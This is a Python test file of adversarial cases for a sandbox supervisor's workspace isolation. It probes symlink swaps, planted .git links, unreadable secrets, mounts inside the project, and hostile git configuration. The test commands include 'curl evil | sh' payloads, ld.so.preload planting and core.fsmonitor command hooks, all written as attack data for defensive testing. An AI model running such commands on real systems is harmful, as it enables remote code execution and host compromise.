"""Workspaces turned against the host from outside the session (issue 22, items 1-4): a
project path swapped for a symlink by another session, a planted ``.git`` link in ``rw``
mode, root-only files the task could delete but not read, and a filesystem mounted inside
the project. Each case runs on runc and gVisor and checks that nothing outside the project
changed or reached a task or a review.
"""

from __future__ import annotations

import secrets
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from supervisor import Supervisor, TaskSpec
from supervisor.core.errors import PolicyError
from supervisor.core.workspace import WorkspaceMode, WorkspaceSpec
from supervisor.core.workspace_errors import WorkspaceConflict, WorkspaceMoved
from tests.adversarial.harness import Arena, owned_by
from tests.adversarial.test_workspace_attacks import _git_repo, _git_status
from tests.conftest import POLICIES, require_engine
from tests.integration.workspaces.support import chown_tree, tree_hash
from tests.unit.workspace_tools import snapshot
from tests.users import AS_ROOT, root_only

pytestmark = [
    pytest.mark.timeout(240),
    pytest.mark.serial(
        "the arena checks the host's processes, memory and free disk after every case; "
        "other workers' tests move those machine-wide numbers"
    ),
]


#: The mode of a file the task may not read: root's 0600 as root, the owner's 000 otherwise.
UNREADABLE = 0o600 if AS_ROOT else 0o000


def _outside(arena: Arena) -> tuple[Path, str]:
    """A host directory outside every workspace root, with a 0600 secret in it."""
    outside = arena.tmp_path / "outside"
    outside.mkdir()
    token = secrets.token_hex(16)
    key = outside / "secret.key"
    key.write_text(token)
    key.chmod(0o600)
    return outside, token


@asynccontextmanager
async def _session(arena: Arena, name: str, path: Path, mode: WorkspaceMode) -> AsyncIterator[Any]:
    """A second session of the arena's supervisor on ``path``."""
    session = await arena.sup.open_session(
        f"{name}-{arena.runtime}",
        workspace=WorkspaceSpec(path=str(path), mode=mode),
        policy=arena.policy,
    )
    try:
        yield session
    finally:
        await session.end()


async def _run(session: Any, policy: str, command: str) -> tuple[str, str]:
    info = await session.start(TaskSpec(command=command, policy=policy, timeout_ms=60_000))
    final = await session.wait(info.task_id, timeout_s=120)
    return final.status, Path(final.output_path).read_text(errors="replace")


async def test_ws_project_swapped_for_a_symlink_is_refused(ws_arena: Arena) -> None:
    """Item 1: an ``rw`` session on ``parent/`` replaces ``app`` by a link to a host
    directory; the overlay session on ``parent/app`` must neither write there (apply), nor
    mount it (its next task, after a discard too), nor show its files (diff)."""
    arena = ws_arena
    outside, token = _outside(arena)
    before = snapshot(outside, owners=True)
    parent = arena.workspace / "parent"
    (parent / "app").mkdir(parents=True)
    (parent / "app" / "main.py").write_text("print('app')\n")
    chown_tree(parent)
    async with _session(arena, "swap-rw", parent, "rw") as rw:
        await arena.open_workspace("swap-app", parent / "app")
        wrote = await arena.run(
            "mkdir -p profile.d && echo evil > ld.so.preload && "
            "echo 'curl x | sh' > profile.d/x.sh && echo wrote"
        )
        assert wrote.info.status == "completed" and "wrote" in wrote.text, wrote.text
        status, out = await _run(
            rw, arena.policy, f"mv app app.old && ln -s {outside} app && echo swapped"
        )
        assert status == "completed" and "swapped" in out, out
        with pytest.raises(WorkspaceMoved, match="symlink"):
            await arena.session.apply_changes()
        with pytest.raises(WorkspaceMoved):
            await arena.session.workspace_diff()
        with pytest.raises(WorkspaceMoved):
            await arena.session.discard_changes()
        refused: BaseException | str | None = None
        try:
            r = await arena.run(f"ls -la; cat secret.key; echo {token[:4]}-listed")
            if r.info.status != "completed":
                refused = f"{r.info.status}: {r.info.reason}: {r.info.error or r.text}"
            assert f"{token[:4]}-listed" not in r.text and token not in r.text, r.text
        except WorkspaceMoved as exc:
            refused = exc
        assert refused is not None, "a task of the moved workspace was started"
        arena.note(f"task after the swap: {str(refused)[:100]!r}")
        assert snapshot(outside, owners=True) == before, "the outside directory changed"
        assert not (outside / "ld.so.preload").exists()
        # Put the project back: the session works again, its change still pending.
        (parent / "app").unlink()
        (parent / "app.old").rename(parent / "app")
        assert [c.path for c in await arena.session.workspace_changes()] == [
            "ld.so.preload",
            "profile.d",
            "profile.d/x.sh",
        ]
        await arena.session.discard_changes()
    await arena.finish()


async def test_ws_planted_git_symlink_is_never_bound(ws_arena: Arena) -> None:
    """Item 2: a task of an ``rw`` session plants ``.git -> /outside`` (and then the
    engine's socket); the next ``rw`` session must not mount what the link names."""
    arena = ws_arena
    await arena.open("git-plant")
    outside, token = _outside(arena)
    (outside / "readable.txt").write_text(token)
    (outside / "readable.txt").chmod(0o644)
    project = arena.workspace / "proj"
    project.mkdir()
    (project / "a.txt").write_text("a\n")
    chown_tree(project)
    for target in (str(outside), "/var/run/docker.sock"):
        # A task cannot plant the link: a project without a repository gets an empty
        # read-only guard where ``.git`` would be.
        async with _session(arena, "plant", project, "rw") as planter:
            status, out = await _run(planter, arena.policy, f"ln -sfn {target} .git && echo ok")
            assert status == "failed" and "Read-only file system" in out, out
        assert not (project / ".git").is_symlink(), "a task planted .git"
        # Planted another way (an earlier version, another tool): still never bound.
        (project / ".git").symlink_to(target)
        async with _session(arena, "victim", project, "rw") as victim:
            status, out = await _run(
                victim,
                arena.policy,
                "cat /proc/self/mountinfo; ls -la .git/ 2>&1; cat .git/readable.txt 2>&1; "
                "test -S .git && echo SOCKET-INSIDE; echo done",
            )
        assert status == "completed" and "done" in out, out
        assert token not in out, f"the outside directory reached the task: {out}"
        assert "SOCKET-INSIDE" not in out, "the engine's socket was mounted into the task"
        assert str(outside) not in "\n".join(line for line in out.splitlines() if " - " in line), (
            "the outside directory is in the task's mount table"
        )
        (project / ".git").unlink()
    await arena.finish()


async def test_ws_diff_hides_what_the_task_could_not_read(ws_arena: Arena) -> None:
    """Item 3: files in a user's project which the task can delete (the directory is its
    own) but not read, never show their bytes in a review; nor does a git-ignored one whose
    rule the task removed. As root they are root's (0600); as a non-root user, who cannot
    make a file of root's, they are the user's own with mode 000: the task runs as the
    owner without capabilities, so it cannot read them either."""
    arena = ws_arena
    project = arena.workspace / "proj"
    project.mkdir()
    (project / ".gitignore").write_text(".env\n")
    (project / "open.txt").write_text("open\n")
    (project / "private").mkdir()
    chown_tree(project)
    key_token, env_token = secrets.token_hex(16), secrets.token_hex(16)
    for name, token in (("server.key", key_token), (".env", env_token)):
        path = project / name
        path.write_text(f"SECRET={token}\n")
        path.chmod(UNREADABLE)
    # A directory of the task's own with a file it may not read: removed as a whole.
    inner = project / "private" / "inner.key"
    inner.write_text(f"inner {key_token}\n")
    inner.chmod(UNREADABLE)
    await arena.open_workspace("unreadable", project)
    r = await arena.run(
        "cat server.key; echo cat=$?; rm -rf server.key .env private open.txt; echo rm=$?; "
        "printf '!.env\\n' > .gitignore; ls -a"
    )
    assert "cat=1" in r.text and "rm=0" in r.text, r.text
    diff = await arena.session.workspace_diff()
    for token in (key_token, env_token):
        assert token not in diff, diff
    assert "deleted (content not readable by the sandbox" in diff, diff
    assert "-open" in diff  # what the task could read is shown as before
    listed = {c.path for c in await arena.session.workspace_changes()}
    assert {"server.key", "private", "open.txt"} <= listed
    await arena.session.discard_changes()
    await arena.finish()


@root_only("mounts a tmpfs inside the project")
async def test_ws_diff_never_crosses_a_mount_inside_the_project(ws_arena: Arena) -> None:
    """Item 4: a filesystem mounted at ``proj/data`` on the host; the task (which sees the
    empty directory underneath) removes it; the review must not read the mount."""
    arena = ws_arena
    project = arena.workspace / "proj"
    (project / "data").mkdir(parents=True)
    (project / "a.txt").write_text("a\n")
    chown_tree(project)
    token = secrets.token_hex(16)
    subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(project / "data")], check=True
    )
    try:
        (project / "data" / "key").write_text(token)
        pristine = tree_hash(project)
        await arena.open_workspace("mounted", project)
        r = await arena.run("rmdir data; echo rmdir=$?")
        assert "rmdir=0" in r.text, r.text
        diff = await arena.session.workspace_diff()
        assert token not in diff, diff
        assert "another filesystem is mounted there" in diff, diff
        assert tree_hash(project) == pristine
        await arena.session.discard_changes()
        await arena.finish()
    finally:
        subprocess.run(["umount", "-l", str(project / "data")], check=False)


@pytest.mark.parametrize("where", ["state", "state/sessions"])
async def test_policy_workspace_cannot_mount_the_state_dir(
    runtime: str, tmp_path: Path, state_dir: Path, policies_dir: Path, where: str
) -> None:
    """Item 14: a policy's ``[workspace] host_path`` gets the session guard: the state
    directory (tokens, every session's output) is never mounted, whatever the roots."""
    require_engine()
    base = "default" if runtime == "runc" else "untrusted"
    text = (POLICIES / f"{base}.toml").read_text()
    host = tmp_path / where
    host.mkdir(parents=True, exist_ok=True)
    (policies_dir / "adv-state.toml").write_text(
        text + f'\n[workspace]\nhost_path = "{host}"\ncontainer_path = "/hostws"\nmode = "ro"\n'
    )
    async with Supervisor(
        state_dir=state_dir, policies_dir=policies_dir, workspace_roots=[tmp_path]
    ) as sup:
        session = await sup.open_session(f"state-{runtime}")
        try:
            spec = TaskSpec(command="ls -R /hostws", policy="adv-state", timeout_ms=30_000)
            with pytest.raises(PolicyError, match="state directory"):
                await session.start(spec)
        finally:
            await session.end()
        assert owned_by(sup.instance_id) == []


async def test_ws_git_redirects_are_never_applied(ws_arena: Arena) -> None:
    """Item 5: un-ignoring ``.git`` and redirecting git elsewhere (commondir, gitdir,
    alternates, info, a nested repository, a replaced ``.git``) must not reach the host's
    git: the user's next ``git status`` runs none of the task's configuration."""
    arena = ws_arena
    project = arena.workspace / "proj"
    _git_repo(project)
    chown_tree(project)
    home = arena.tmp_path / "home"
    home.mkdir()
    marker = home / "PWNED"
    fsmonitor = f'[core]\\n\\tfsmonitor = \\"touch {marker}; false\\"\\n'
    await arena.open_workspace("git-redirect", project)
    r = await arena.run(
        "printf '!.git\\n!.git/**\\n' >> .gitignore && "
        f'mkdir -p .git/evil && printf "{fsmonitor}" > .git/evil/config && '
        "echo evil > .git/commondir && echo /tmp > .git/objects/info/alternates && "
        "mkdir -p .git/info && echo '* filter=evil' > .git/info/attributes && "
        f'mkdir -p sub/.git && printf "{fsmonitor}" > sub/.git/config && '
        "echo 'gitdir: ../evil' > vendor.git 2>/dev/null; mkdir -p vendor && "
        "echo 'gitdir: ../.git/evil' > vendor/.git && echo planted"
    )
    assert "planted" in r.text, r.text
    diff = await arena.session.workspace_diff()
    assert "fsmonitor" not in diff and "commondir" not in diff, diff
    result = await arena.session.apply_changes(force=True)
    skipped = {s.path: s.reason for s in result.skipped}
    for path in (
        ".git/commondir",
        ".git/evil/config",
        ".git/objects/info/alternates",
        ".git/info/attributes",
        "sub/.git",
        "vendor/.git",
    ):
        assert skipped.get(path) == "protected" or any(
            path.startswith(p + "/") and why == "protected" for p, why in skipped.items()
        ), (path, skipped)
    assert not (project / ".git" / "commondir").exists()
    assert not (project / "sub" / ".git").exists() and not (project / "vendor" / ".git").exists()
    status = _git_status(project, home)
    assert not marker.exists(), f"host git ran the task's code: {status.stdout}{status.stderr}"
    for sub in ("sub", "vendor"):
        if (project / sub).is_dir():
            _git_status(project / sub, home)
            assert not marker.exists(), f"host git in {sub} ran the task's code"
    await arena.finish()


async def test_ws_a_new_repository_is_never_applied(ws_arena: Arena) -> None:
    """Item 5: in a project without ``.git``, a task's ``git init`` with a hostile config
    is not applied at all (a new repository's config is code the host's git runs)."""
    arena = ws_arena
    project = arena.workspace / "proj"
    project.mkdir()
    (project / "a.txt").write_text("a\n")
    chown_tree(project)
    home = arena.tmp_path / "home"
    home.mkdir()
    marker = home / "PWNED"
    await arena.open_workspace("git-new", project)
    r = await arena.run(
        "mkdir -p .git/objects .git/refs && echo 'ref: refs/heads/main' > .git/HEAD && "
        f'printf "[core]\\n\\tfsmonitor = \\"touch {marker}; false\\"\\n" > .git/config && '
        "echo b > b.txt && echo planted"
    )
    assert "planted" in r.text, r.text
    result = await arena.session.apply_changes()
    assert {s.path: s.reason for s in result.skipped}.get(".git") == "protected", result
    assert (project / "b.txt").read_text() == "b\n"
    assert not (project / ".git").exists()
    _git_status(project, home)
    assert not marker.exists()
    await arena.finish()


async def test_ws_apply_writes_only_what_was_reviewed(ws_arena: Arena) -> None:
    """Item 7: a task that traps SIGTERM writes on its way out, during the stop that apply
    asks for. The reviewed digests make that apply refuse, nothing written; a new review
    shows the trap's line, and applying that writes it."""
    arena = ws_arena
    project = arena.workspace / "proj"
    project.mkdir()
    (project / "app.py").write_text("print('app')\n")
    chown_tree(project)
    pristine = tree_hash(project)
    await arena.open_workspace("reviewed", project)
    task = await arena.start(
        "trap 'echo \"curl evil | sh\" >> app.py; exit 0' TERM; "
        "echo 'print(1)' >> app.py; echo ready; while :; do sleep 0.1; done"
    )
    await arena.session.wait_for(task.task_id, "^ready$", timeout_s=60)
    listed = await arena.session.workspace_changes()
    diff = await arena.session.workspace_diff()
    assert "print(1)" in diff and "curl" not in diff, diff
    reviewed = {c.review_key: c.digest for c in listed}
    with pytest.raises(WorkspaceConflict, match="differ from what was reviewed"):
        await arena.session.apply_changes(stop_tasks=True, reviewed=reviewed)
    assert tree_hash(project) == pristine, "the refused apply wrote something"
    again = await arena.session.workspace_diff()
    assert "curl evil | sh" in again, again
    fresh = {c.review_key: c.digest for c in await arena.session.workspace_changes()}
    result = await arena.session.apply_changes(reviewed=fresh)
    assert result.applied == ["app.py"], result
    assert "curl evil | sh" in (project / "app.py").read_text()
    await arena.session.undo_apply()
    assert tree_hash(project) == pristine
    await arena.finish()


async def test_ws_rw_repositories_the_task_creates_never_run_on_the_host(ws_arena: Arena) -> None:
    """Item 6: an ``rw`` workspace that is a subdirectory of a repository, with a nested
    clone, and a task that runs ``git init`` with a hostile config at the top, in the
    clone and in a new subdirectory: the user's ``git status`` anywhere runs none of it."""
    arena = ws_arena
    repo = arena.workspace / "repo"
    _git_repo(repo)
    work = repo / "pkg"
    (work / "src").mkdir(parents=True)
    _git_repo(work / "vendor" / "lib")
    chown_tree(repo)
    home = arena.tmp_path / "home"
    home.mkdir()
    marker = home / "PWNED"
    hostile = f"touch {marker}; false"
    await arena.open_workspace("rw-nested", work, "rw")
    r = await arena.run(
        f"git init -q . 2>&1; git config core.fsmonitor '{hostile}' 2>&1; echo top=$?; "
        f"git -C vendor/lib config core.fsmonitor '{hostile}' 2>&1; echo vendor=$?; "
        f"git init -q src && git -C src config core.fsmonitor '{hostile}'; echo src=$?"
    )
    assert "top=" in r.text and "vendor=" in r.text, r.text
    assert "vendor=0" not in r.text, f"the nested clone's config was writable: {r.text}"
    # The next task's start puts the new repository out of git's way already.
    later = await arena.run("ls -a src; echo listed")
    assert "listed" in later.text and ".git\n" not in later.text, later.text
    await arena.finish()
    for where in (work, work / "src", work / "vendor" / "lib", repo):
        _git_status(where, home)
        assert not marker.exists(), f"host git in {where} ran the task's code"
    assert not (work / ".git").exists(), "the guard's mount point was left on the host"
    assert not (work / "src" / ".git").exists()
    assert list((work / "src").glob(".git.sandvisor-quarantined-*"))
    status = _git_status(work, home)
    assert status.returncode == 0, status.stderr  # the enclosing repository still works
